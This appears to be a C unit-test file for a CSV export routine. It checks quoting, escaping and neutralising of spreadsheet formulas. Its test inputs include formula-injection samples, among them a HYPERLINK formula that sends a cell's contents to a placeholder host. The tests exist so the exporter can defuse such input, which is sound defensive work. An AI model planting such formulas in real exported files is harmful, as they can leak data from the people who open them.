/* test_csv.c: check suite for common/csv.c: RFC 4180 quoting (comma,
 * quote, CR, LF; quotes doubled), formula neutralising of text cells
 * (=, +, -, @, TAB, CR) and not of typed ones, NULL and empty fields,
 * UTF-8 passed through, and the cap (a field that does not fit is not
 * written at all). */
#include <errno.h>

#include "csv.h"
#include "unit.h"

struct cell_case {
	const char *in;
	int text;
	const char *out;
};

static const struct cell_case cells[] = {
	{ "plain", 1, "plain" },
	{ "plain", 0, "plain" },
	{ "", 1, "" },
	{ "a,b", 1, "\"a,b\"" },
	{ "say \"hi\"", 1, "\"say \"\"hi\"\"\"" },
	{ "\"", 1, "\"\"\"\"" },
	{ "\"\"", 1, "\"\"\"\"\"\"" },
	{ "line1\nline2", 1, "\"line1\nline2\"" },
	{ "cr\rhere", 1, "\"cr\rhere\"" },
	{ "crlf\r\n", 1, "\"crlf\r\n\"" },
	/* formulas: a leading quote, inside the field's quotes when quoted */
	{ "=1+2", 1, "'=1+2" },
	{ "+1", 1, "'+1" },
	{ "-2+3", 1, "'-2+3" },
	{ "@SUM(A1)", 1, "'@SUM(A1)" },
	{ "\tweb1", 1, "'\tweb1" },
	{ "\rdev1", 1, "\"'\rdev1\"" },
	{ "=HYPERLINK(\"http://x/?a=\"&A1,\"click\")", 1,
	  "\"'=HYPERLINK(\"\"http://x/?a=\"\"&A1,\"\"click\"\")\"" },
	{ "-", 1, "'-" },
	/* typed values are never changed */
	{ "-5", 0, "-5" },
	{ "-1.250", 0, "-1.250" },
	{ "+00", 0, "+00" },
	/* only the first character counts; later ones are data */
	{ "a=b", 1, "a=b" },
	{ " =1", 1, " =1" },
	{ "x-@+", 1, "x-@+" },
	/* UTF-8 passes through untouched */
	{ "gr\xc3\xbc\xc3\x9f, \xe2\x82\xac", 1, "\"gr\xc3\xbc\xc3\x9f, \xe2\x82\xac\"" },
	{ "\xef\xbc\x9d", 1, "\xef\xbc\x9d" },
};

START_TEST(cell)
{
	const struct cell_case *c = &cells[_i];
	struct approve_buf b;

	approve_buf_init(&b, 1024);
	ck_assert_int_eq(approve_csv_cell(&b, c->in, c->text), 0);
	ck_assert_msg(b.len == strlen(c->out) && (b.len == 0 || memcmp(b.data, c->out, b.len) == 0),
		      "case %d: got [%s], want [%s]", _i, b.data, c->out);
	approve_buf_release(&b);
}
END_TEST

START_TEST(null_is_empty)
{
	struct approve_buf b;

	approve_buf_init(&b, 16);
	ck_assert_int_eq(approve_csv_cell(&b, NULL, 1), 0);
	ck_assert_uint_eq(b.len, 0);
	ck_assert_int_eq(approve_csv_cell(&b, NULL, 0), 0);
	ck_assert_uint_eq(b.len, 0);
	approve_buf_release(&b);
}
END_TEST

START_TEST(record)
{
	static const char *const row[] = { "2025-03-03", "=cmd", NULL, "a,\"b\"\nc", "-7" };
	static const int text[] = { 0, 1, 1, 1, 0 };
	struct approve_buf b;
	size_t i;

	approve_buf_init(&b, 1024);
	for (i = 0; i < sizeof(row) / sizeof(row[0]); i++) {
		if (i)
			ck_assert_int_eq(approve_buf_append(&b, ",", 1), 0);
		ck_assert_int_eq(approve_csv_cell(&b, row[i], text[i]), 0);
	}
	ck_assert_int_eq(approve_buf_append_str(&b, APPROVE_CSV_EOL), 0);
	ck_assert_str_eq(b.data, "2025-03-03,'=cmd,,\"a,\"\"b\"\"\nc\",-7\r\n");
	approve_buf_release(&b);
}
END_TEST

/* A field that does not fit leaves what was there, byte for byte. */
START_TEST(cap_rolls_back)
{
	struct approve_buf b;
	size_t max;

	for (max = 1; max < 24; max++) {
		approve_buf_init(&b, max);
		ck_assert_int_eq(approve_csv_cell(&b, "x", 1), 0);
		/* quoted, neutralised, quotes doubled: 18 bytes */
		if (max - 1 >= 18) {
			ck_assert_int_eq(approve_csv_cell(&b, "=a\"b\",\"c\"\nd", 1), 0);
			ck_assert_str_eq(b.data, "x\"'=a\"\"b\"\",\"\"c\"\"\nd\"");
		} else {
			ck_assert_int_eq(approve_csv_cell(&b, "=a\"b\",\"c\"\nd", 1), -E2BIG);
			ck_assert_uint_eq(b.len, 1);
			ck_assert_str_eq(b.data, "x");
		}
		approve_buf_release(&b);
	}
	/* the very first field failing leaves the buffer empty */
	approve_buf_init(&b, 3);
	ck_assert_int_eq(approve_csv_cell(&b, "a,b", 1), -E2BIG);
	ck_assert_uint_eq(b.len, 0);
	approve_buf_release(&b);
}
END_TEST

/* Long hostile input: every quote doubled, nothing lost. */
START_TEST(many_quotes)
{
	char in[4097];
	struct approve_buf b;
	size_t i;

	memset(in, '"', sizeof(in) - 1);
	in[sizeof(in) - 1] = '\0';
	approve_buf_init(&b, 1 << 20);
	ck_assert_int_eq(approve_csv_cell(&b, in, 1), 0);
	ck_assert_uint_eq(b.len, 2 + 2 * (sizeof(in) - 1));
	for (i = 0; i < b.len; i++)
		ck_assert_int_eq(b.data[i], '"');
	approve_buf_release(&b);
}
END_TEST

START_TEST(is_formula)
{
	ck_assert_int_eq(approve_csv_is_formula("=x"), 1);
	ck_assert_int_eq(approve_csv_is_formula("+x"), 1);
	ck_assert_int_eq(approve_csv_is_formula("-x"), 1);
	ck_assert_int_eq(approve_csv_is_formula("@x"), 1);
	ck_assert_int_eq(approve_csv_is_formula("\tx"), 1);
	ck_assert_int_eq(approve_csv_is_formula("\rx"), 1);
	ck_assert_int_eq(approve_csv_is_formula("x="), 0);
	ck_assert_int_eq(approve_csv_is_formula(""), 0);
	ck_assert_int_eq(approve_csv_is_formula(NULL), 0);
	ck_assert_int_eq(approve_csv_is_formula("\n=x"), 0);
}
END_TEST

#define N(a) ((int)(sizeof(a) / sizeof((a)[0])))

static Suite *
csv_suite(void)
{
	Suite *s = suite_create("csv");
	TCase *tc = tcase_create("core");

	tcase_add_loop_test(tc, cell, 0, N(cells));
	tcase_add_test(tc, null_is_empty);
	tcase_add_test(tc, record);
	tcase_add_test(tc, cap_rolls_back);
	tcase_add_test(tc, many_quotes);
	tcase_add_test(tc, is_formula);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	return unit_run(csv_suite());
}
